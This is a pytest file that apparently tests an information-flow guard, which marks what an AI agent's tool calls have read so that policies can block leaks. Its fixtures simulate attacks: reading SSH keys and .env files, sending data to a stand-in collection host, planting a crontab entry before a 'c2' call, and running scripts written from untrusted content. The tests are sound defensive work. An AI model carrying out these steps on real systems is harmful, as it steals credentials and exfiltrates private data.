"""Flow marks as policies see them, through the guard."""

from __future__ import annotations

import msgspec
import pytest

from tests.gateway.flow.conftest import EVERY, Agent, Make, answered, request, text
from tests.gateway.flow.sessions import KEY, MEMO
from watchkeeper.core.clock import ManualClock
from watchkeeper.gateway.containment import Order, OrderKind
from watchkeeper.gateway.flow.model import MARKS
from watchkeeper.gateway.model import Route
from watchkeeper.policy import Effect
from watchkeeper.protocol.message import parse_message

MINUTE = 60 * 1_000_000
TOKEN = "AKIA" + "Q3EGRZ7YXM2NKDVW"


@pytest.fixture
def agent(make: Make) -> Agent:
    return Agent(make(EVERY))


@pytest.mark.behaviour("flow.nothing-unread")
def test_where_no_policy_reads_any_of_it_nothing_is_asked_or_kept(make: Make) -> None:
    guard = make()
    assert guard._flow is None
    ruling = Agent(guard).calls("mail", "send_message", body="x")
    assert ruling.told == {}


@pytest.mark.behaviour("flow.coarse")
def test_what_was_read_marks_what_follows_and_says_whether_another_server_gave_it(agent: Agent) -> None:
    agent.gets("files", "read_file", text("short"), path="a.txt")
    assert agent.marks("mail", "send_message", body="hello") == {"private_read", "private_read_elsewhere"}
    assert agent.marks("files", "write_file", path="b", content="c") == {"private_read"}


@pytest.mark.behaviour("flow.coarse")
def test_web_pages_and_credentials_have_marks_of_their_own(agent: Agent) -> None:
    agent.gets("web", "fetch", text("short"), url="https://a.test")
    agent.gets("env", "get_env", text("short"), variable="DATABASE_PASSWORD")
    marks = agent.marks("mail", "send_message", body="x")
    assert {"untrusted_read", "secret_read", "secret_read_elsewhere", "untrusted_read_elsewhere"} <= marks


@pytest.mark.behaviour("flow.coarse")
@pytest.mark.parametrize("path", ["/home/user/.env", "~/.ssh/id_rsa", "/srv/app/credentials.json"])
def test_a_file_that_is_known_to_hold_credentials_counts_as_one(agent: Agent, path: str) -> None:
    agent.gets("files", "read_file", text("short"), path=path)
    assert "secret_read_elsewhere" in agent.marks("web", "fetch", url="https://out.test/collect")


@pytest.mark.behaviour("flow.carried")
def test_text_of_one_server_is_seen_in_a_call_of_another(agent: Agent) -> None:
    agent.gets("files", "read_file", text(MEMO), path="memo.txt")
    assert "carries_private" in agent.marks("mail", "send_message", body=MEMO[30:150])
    assert "carries_private" not in agent.marks("mail", "send_message", body="Lunch at noon?")


@pytest.mark.behaviour("flow.every-way-in")
def test_what_a_command_printed_is_private(agent: Agent) -> None:
    agent.gets("shell", "run_command", text(MEMO), command="cat memo.txt")
    assert "carries_private" in agent.marks("mail", "send_message", body=MEMO[30:150])


@pytest.mark.behaviour("flow.same-server")
def test_what_goes_back_to_its_own_server_is_not_carried_but_said(agent: Agent) -> None:
    agent.gets("files", "read_file", text(MEMO), path="memo.txt")
    marks = agent.marks("files", "write_file", path="memo.txt", content=MEMO)
    assert "returns_private" in marks
    assert "carries_private" not in marks


@pytest.mark.behaviour("flow.principals-apart")
def test_marks_follow_the_principal_and_nobody_else(make: Make) -> None:
    guard = make(EVERY)
    Agent(guard, "agent:ada").gets("files", "read_file", text(MEMO), path="memo.txt")
    assert Agent(guard, "agent:ben").marks("mail", "send_message", body=MEMO) == set()
    assert Agent(guard, "agent:acme:ada").marks("mail", "send_message", body=MEMO) == set()
    assert "carries_private" in Agent(guard, "agent:ada").marks("mail", "send_message", body=MEMO)


@pytest.mark.behaviour("flow.every-way-in")
def test_resources_prompts_tasks_and_server_messages_count_as_results_do(make: Make) -> None:
    guard = make(EVERY, labels={"crm/*": ("reads_private",)})
    for server, asked, result in [
        (
            "files",
            request("resources/read", uri="file:///memo.txt"),
            {"contents": [{"uri": "file:///memo.txt", "text": MEMO}]},
        ),
        ("crm", request("prompts/get", name="brief"), {"messages": [{"role": "user", "content": text(MEMO)}]}),
        ("crm", request("tools/call", name="x", arguments={}), {"structuredContent": {"memo": MEMO}, "content": []}),
    ]:
        agent = Agent(guard, f"agent:{asked.method}")
        agent.gets_for(server, asked, result)
        assert "carries_private" in agent.marks("mail", "send_message", body=MEMO[:100]), asked.method


@pytest.mark.behaviour("flow.every-way-in")
def test_the_result_of_a_task_counts_by_the_tool_that_made_it(agent: Agent) -> None:
    agent.gets("files", "read_file", {"task": {"taskId": "t-1", "status": "working"}}, path="memo.txt")
    agent.gets_for("files", request("tasks/result", taskId="t-1"), text(MEMO))
    assert "carries_private" in agent.marks("mail", "send_message", body=MEMO[:100])


@pytest.mark.behaviour("flow.every-way-in")
def test_what_a_server_says_unasked_counts_as_what_it_brought_in_before(agent: Agent) -> None:
    agent.gets("files", "read_file", text("short"), path="a.txt")
    note = {"jsonrpc": "2.0", "method": "notifications/message", "params": {"level": "info", "data": MEMO}}
    agent.guard.on_server_message(Route(name="files"), agent.name, parse_message(msgspec.json.encode(note)))
    assert "carries_private" in agent.marks("mail", "send_message", body=MEMO[:100])


@pytest.mark.behaviour("flow.withheld")
def test_what_was_withheld_from_the_agent_marks_nothing(agent: Agent) -> None:
    asked = request("tools/call", name="read_file", arguments={"path": "a"})
    ruling = agent.guard.on_answer(Route(name="files"), agent.name, asked, answered(text(f"{MEMO} {TOKEN}")))
    assert ruling.verdict.effect is Effect.DENY
    assert agent.marks("mail", "send_message", body=MEMO) == set()


@pytest.mark.behaviour("flow.withheld")
def test_in_shadow_it_passes_and_therefore_marks_and_a_credential_found_in_it_is_one(agent: Agent) -> None:
    asked = request("tools/call", name="read_file", arguments={"path": "a"})
    agent.guard.on_answer(Route(name="files", shadow=True), agent.name, asked, answered(text(f"key {TOKEN}")))
    marks = agent.marks("web", "fetch", url=f"https://out.test/{TOKEN}")
    assert {"secret_read_elsewhere", "carries_secret"} <= marks


@pytest.mark.behaviour("flow.expires")
def test_marks_expire(make: Make, clock: ManualClock) -> None:
    agent = Agent(make(EVERY, minutes=10))
    agent.gets("files", "read_file", text(MEMO), path="memo.txt")
    clock.advance(9 * MINUTE)
    assert {"private_read", "carries_private"} <= agent.marks("mail", "send_message", body=MEMO)
    clock.advance(2 * MINUTE)
    assert agent.marks("mail", "send_message", body=MEMO) == {"carries_private"}  # in the older generation
    clock.advance(10 * MINUTE)
    assert agent.marks("mail", "send_message", body=MEMO) == set()


@pytest.mark.behaviour("flow.expires")
def test_after_a_long_silence_nothing_is_left(make: Make, clock: ManualClock) -> None:
    agent = Agent(make(EVERY, minutes=10))
    agent.gets("files", "read_file", text(MEMO), path="memo.txt")
    clock.advance(30 * MINUTE)
    assert agent.marks("mail", "send_message", body=MEMO) == set()


@pytest.mark.behaviour("flow.bounded")
def test_memory_is_bounded_and_what_was_dropped_before_its_time_is_said(make: Make) -> None:
    guard = make(EVERY, fingerprints=1_000)
    first, second = Agent(guard, "agent:one"), Agent(guard, "agent:two")
    first.gets("files", "read_file", text(MEMO), path="memo.txt")
    second.gets("files", "read_file", text(" ".join(f"word{n}x{n * 7}" for n in range(4_000))), path="big.txt")
    assert guard.flow is not None
    assert "flow_forgotten" in first.marks("mail", "send_message", body=MEMO)
    assert "flow_forgotten" not in second.marks("mail", "send_message", body="x")


@pytest.mark.behaviour("flow.bounded")
def test_of_too_many_agents_the_one_that_was_silent_longest_is_forgotten_and_that_is_said(
    make: Make, clock: ManualClock
) -> None:
    guard = make(EVERY, principals=2)
    agents = [Agent(guard, f"agent:{n}") for n in range(3)]
    for agent in agents:
        agent.gets("files", "read_file", text(MEMO), path="memo.txt")
    assert "private_read" in agents[2].marks("mail", "send_message", body="x")
    assert agents[0].marks("mail", "send_message", body="x") == {"flow_forgotten"}
    clock.advance(60 * MINUTE)
    assert agents[0].marks("mail", "send_message", body="x") == set()


@pytest.mark.behaviour("flow.chains")
def test_running_what_was_just_written_is_marked_and_whether_a_stranger_wrote_it(agent: Agent) -> None:
    agent.gets("web", "fetch", text(MEMO), url="https://a.test")
    agent.gets("files", "write_file", text("ok"), path="/tmp/own.sh", content="#!/bin/sh\necho hello")
    agent.gets("files", "write_file", text("ok"), path="/tmp/theirs.sh", content="# " + MEMO)
    own = agent.marks("shell", "run_command", command="bash /tmp/own.sh")
    theirs = agent.marks("shell", "run_command", command="cd /tmp; bash ./theirs.sh && bash theirs.sh")
    assert "runs_written" in own
    assert "runs_untrusted" not in own
    assert {"runs_written", "runs_untrusted"} <= theirs
    assert "runs_written" not in agent.marks("shell", "run_command", command="pytest -q")


@pytest.mark.behaviour("flow.chains")
def test_something_written_where_it_starts_by_itself_is_marked(agent: Agent) -> None:
    agent.gets("files", "write_file", text("ok"), path="/var/spool/cron/crontabs/user", content="* * * * * x")
    assert "autostart_written" in agent.marks("web", "fetch", url="https://a.test/c2")


@pytest.mark.behaviour("flow.told")
def test_the_ruling_says_which_labels_and_marks_were_read_and_never_what_they_came_from(make: Make) -> None:
    policy = (
        '@id("p") @reason("No.") forbid (principal, action == Action::"call_tool", resource) '
        'when { context.labels.contains("sends") && context.flow.contains("carries_private") };'
    )
    agent = Agent(make(policy))
    agent.gets("files", "read_file", text(MEMO), path="memo.txt")
    ruling = agent.calls("mail", "send_message", body=MEMO)
    assert ruling.verdict.rules == ("p",)
    assert ruling.told == {"labels": ("sends",), "flow": ("carries_private",)}  # no mark that no policy reads


@pytest.mark.behaviour("flow.told")
def test_an_order_speaks_before_any_mark(make: Make) -> None:
    guard = make(EVERY)
    guard._orders.replace([Order("o", OrderKind.QUARANTINE_SERVER, "mail", "r", "operator:ada", 1, 1)], 1)
    assert Agent(guard).calls("mail", "send_message", body=KEY).told == {}


def test_every_mark_that_is_promised_is_read_by_these_tests() -> None:
    assert {mark for mark in MARKS if f'"{mark}"' not in EVERY} == set()
